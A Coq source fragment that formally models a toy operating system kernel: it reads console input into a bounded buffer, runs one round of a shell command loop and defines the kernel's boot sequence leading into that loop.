Definition read_line (cmd : Z) : kprog Z :=
  loop fuel (fun i =>
    if i <? 128 then
      c ← getc env;
      if (c =? 13) || (c =? 10) then
        kprintc env 13;;
        kprintc env 10;;
        mret (inr i)
      else
        kprintc env c;;
        st8 (cmd + i) c;;
        mret (inl (i + 1))
    else mret (inr i)) 0.

(** A round of the command loop. *)
Definition shell_round (cmd : Z) (s : shell) : kprog shell :=
  st (fun m => memset m cmd 0 128);;
  print "$ ";;
  i ← read_line cmd;
  if i =? 128 then println "invalid command size";; mret s else
  if i =? 0 then mret s else
  dispatch cmd (commands cmd) s.

(** The code behind the command loop is not reached. *)
Definition kernel_main (cpu_id : Z) : kprog unit :=
  idt_init env isr_stub_table idt_address cpu_id;;
  (if negb (cpu_id =? 0) then ap_run cpu_id else mret tt);;
  program_ioapic env;;
  modify (fun k => k <| k_heap := malloc_init (k_ram k) heap HEAP_SIZE |>);;
  println "OOO OS BOOTED";;
  cmd ← kmalloc fuel 128;
  loop fuel (fun s => s ← shell_round cmd s; mret (inl s)) (Shell 0 0 0 0 0 0 0 0 0 0 0 0).
End Shell.
